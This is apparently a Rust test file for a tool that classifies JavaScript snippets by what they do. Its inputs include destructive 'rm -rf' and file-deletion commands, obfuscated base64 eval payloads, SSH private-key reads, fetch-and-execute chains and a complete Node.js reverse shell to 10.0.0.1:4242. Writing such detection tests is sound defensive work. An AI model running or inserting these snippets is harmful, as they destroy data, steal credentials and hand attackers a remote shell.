// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::check;

#[test]
fn programs_and_shells() {
    check(
        "javascript",
        &[
            (r"require('child_process').execSync('rm -rf ~')", "shell rm -rf ~"),
            (r#"const {execSync:e} = require('child_process'); e("id")"#, "shell id"),
            (r#"const { exec, spawn } = require("node:child_process"); exec(`rm ${'x'}`)"#, "shell rm x"),
            (r"import { execSync as run } from 'child_process'; run('id')", "shell id"),
            (r#"import * as cp from "child_process"; cp.spawnSync("rm", ["-rf", "/"])"#, "start rm|-rf|/"),
            (r#"import cp from "node:child_process"; cp.spawn("rm -rf /", {shell: true})"#, "shell rm -rf /"),
            (r"const cp = require('child_process'); cp['ex'+'ec']('id')", "shell id"),
            (r"(await import('child_process')).exec('id')", "shell id"),
            (r"process.mainModule.require('child_process').exec('id')", "shell id"),
            (r"const d = '/etc'; require('child_process').exec(`rm -rf ${d}/${x}`)", "shell rm -rf /etc/*?"),
            (r"import {$} from 'bun'; await $`rm -rf ${'x'}`", "shell rm -rf x"),
            (r#"await Bun.$`ls`; Bun.spawn(["ls", "-l"])"#, "shell ls; start ls|-l"),
            (r#"new Deno.Command("rm", { args: ["-rf", "x"] }).output()"#, "start rm|-rf|x"),
            (r#"Deno.run({ cmd: ["rm", "x"] })"#, "start rm|x"),
            (r"require('shelljs').exec('ls')", "shell ls"),
            (r#"eval("require('child_process').exec('id')")"#, "shell id"),
            (r#"new Function("require('fs').unlinkSync('x')")()"#, "delete x"),
            (
                r#"eval(Buffer.from("cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4Jyk=", "base64").toString())"#,
                "delete x",
            ),
            (r#"eval(atob("cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCd4Jyk="))"#, "delete x"),
            ("eval(x)", "runs-unknown"),
            ("eval(require('fs').readFileSync(0, 'utf8'))", "runs-input"),
            ("require('child_process').exec(process.argv[2])", "shell *?"),
            (r"require('child_process').exec(String.fromCharCode(105,100))", "shell id"),
            (r"require('child_process').exec(['rm','-rf','/'].join(' '))", "shell rm -rf /"),
        ],
    );
}

#[test]
fn files() {
    check(
        "javascript",
        &[
            (r"require('fs').rmSync('/home', {recursive: true, force: true})", "delete! /home"),
            (r#"import("fs").then(f=>f.rmSync("/home",{recursive:true}))"#, "delete! /home"),
            (r#"import("lodash").then(f=>f.rmSync("/home",{recursive:true}))"#, ""),
            (r"fs.rmSync(path, {force: true})", "delete *?"),
            (r#"const fs = require('fs'); fs.promises.rm("x", {'recursive': true})"#, "delete! x"),
            (r"import fs from 'node:fs/promises'; await fs.unlink('x')", "delete x"),
            (r"import { writeFile } from 'fs/promises'; await writeFile('a', 'b')", "write a"),
            (
                r"const fs=require('fs'),os=require('os'),path=require('path'); fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
                "read ~/.ssh/id_rsa",
            ),
            (r"require('fs').unlinkSync(process.env.HOME + '/.bashrc')", "delete ~/.bashrc"),
            (r"require('fs').appendFileSync(`${process.env.HOME}/.bashrc`, 'x')", "append ~/.bashrc"),
            (r"fs.renameSync('a', '/b'); fs.cpSync('a', 'c')", "move a; write /b; read a; write! c"),
            (r"fs.openSync('a', 'w'); fs.createWriteStream('b')", "write a; write b"),
            (
                r"const fs=require('fs'); fs.readdirSync('/etc').forEach(f => fs.unlinkSync('/etc/' + f))",
                "delete /etc/*#",
            ),
            (r"for (const f of fs.readdirSync('d')) { fs.rmSync(path.join('d', f)) }", "delete d/*#"),
            (r"['a', 'b'].forEach(function (f) { fs.unlinkSync(f) })", "delete a; delete b"),
            (r"const rimraf = require('rimraf'); rimraf('/x', () => {})", "delete! /x"),
            (r"require('shelljs').rm('-rf', '/x')", "delete! /x"),
            (
                r#"Deno.removeSync("/x", { recursive: true }); Deno.writeTextFile("a", "b")"#,
                "delete! /x; write a",
            ),
            (r#"await Bun.write("a", "b"); await Bun.file("c").text()"#, "write a; read c"),
            (r"fs.chmodSync('/etc/passwd', 0o777)", "permit /etc/passwd"),
        ],
    );
}

#[test]
fn the_network() {
    check(
        "javascript",
        &[
            (r#"fetch("https://x.io/a").then(r => r.json())"#, "connect https://x.io/a"),
            (
                r#"const t = await (await fetch("https://x.io")).text(); require("child_process").execSync("bash", {input: t})"#,
                "connect https://x.io; shell bash; shell-runs-fetched",
            ),
            (
                r#"const cp = require("child_process"); const t = await (await fetch("https://x.io")).text(); cp.spawnSync("sh", ["-s"], {input: t})"#,
                "connect https://x.io; start sh|-s; shell-runs-fetched",
            ),
            (
                r#"const cp = require("child_process"); const p = cp.spawn("bash"); p.stdin.write(await (await fetch("https://x.io")).text())"#,
                "start bash; connect https://x.io; shell-runs-fetched",
            ),
            (r#"eval(await (await fetch("https://x.io")).text())"#, "connect https://x.io; runs-fetched"),
            (r#"fetch("https://x.io").then(r => r.text()).then(eval)"#, "connect https://x.io; runs-fetched"),
            (
                r#"fetch("https://x.io").then(r => r.text()).then(t => eval(t))"#,
                "connect https://x.io; runs-fetched",
            ),
            (r"require('https').get('https://x.io', r => {})", "connect https://x.io"),
            (r"const axios = require('axios'); axios.post('https://x.io', {a: 1})", "connect https://x.io"),
            (
                r#"(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();client.connect(4242,"10.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);});return /a/;})();"#,
                "start /bin/sh; connect tcp://10.0.0.1:4242; reverse-shell",
            ),
        ],
    );
}

#[test]
fn what_only_looks_like_it() {
    check(
        "javascript",
        &[
            (r#"console.log("rm -rf /")"#, ""),
            ("// require('fs').rmSync('/')", ""),
            ("/* fs.rmSync('/') */ 1", ""),
            (r#"const s = "require('fs').rmSync('/')";"#, ""),
            ("/fs.rmSync('x')/.exec('a')", ""),
            ("const m = /\"/.exec(s); console.log(m)", ""),
            ("map.delete('/etc'); set.delete(1)", ""),
            ("arr.map(x => x + 1).filter(Boolean)", ""),
            ("const exec = (x) => x; db.exec('drop table x')", ""),
            ("JSON.parse(require('fs').readFileSync('package.json')).version", "read package.json"),
            ("document.write('x'); location.replace('/')", ""),
            ("let a = 4 / 2; let b = '/' + a / 1;", ""),
            ("console.log(require('path').join('/etc', 'passwd'))", ""),
            ("console.log(process.env.HOME, require('os').homedir())", ""),
            ("import { test } from 'vitest'; test('rm', () => {})", ""),
            ("const o = {exec: 1, rm: '/'}; o.rm", ""),
            ("html`<b>${x}</b>`; gql`query`", ""),
            ("fs.writeFileSync('dist/a.js', code)", "write dist/a.js"),
        ],
    );
}
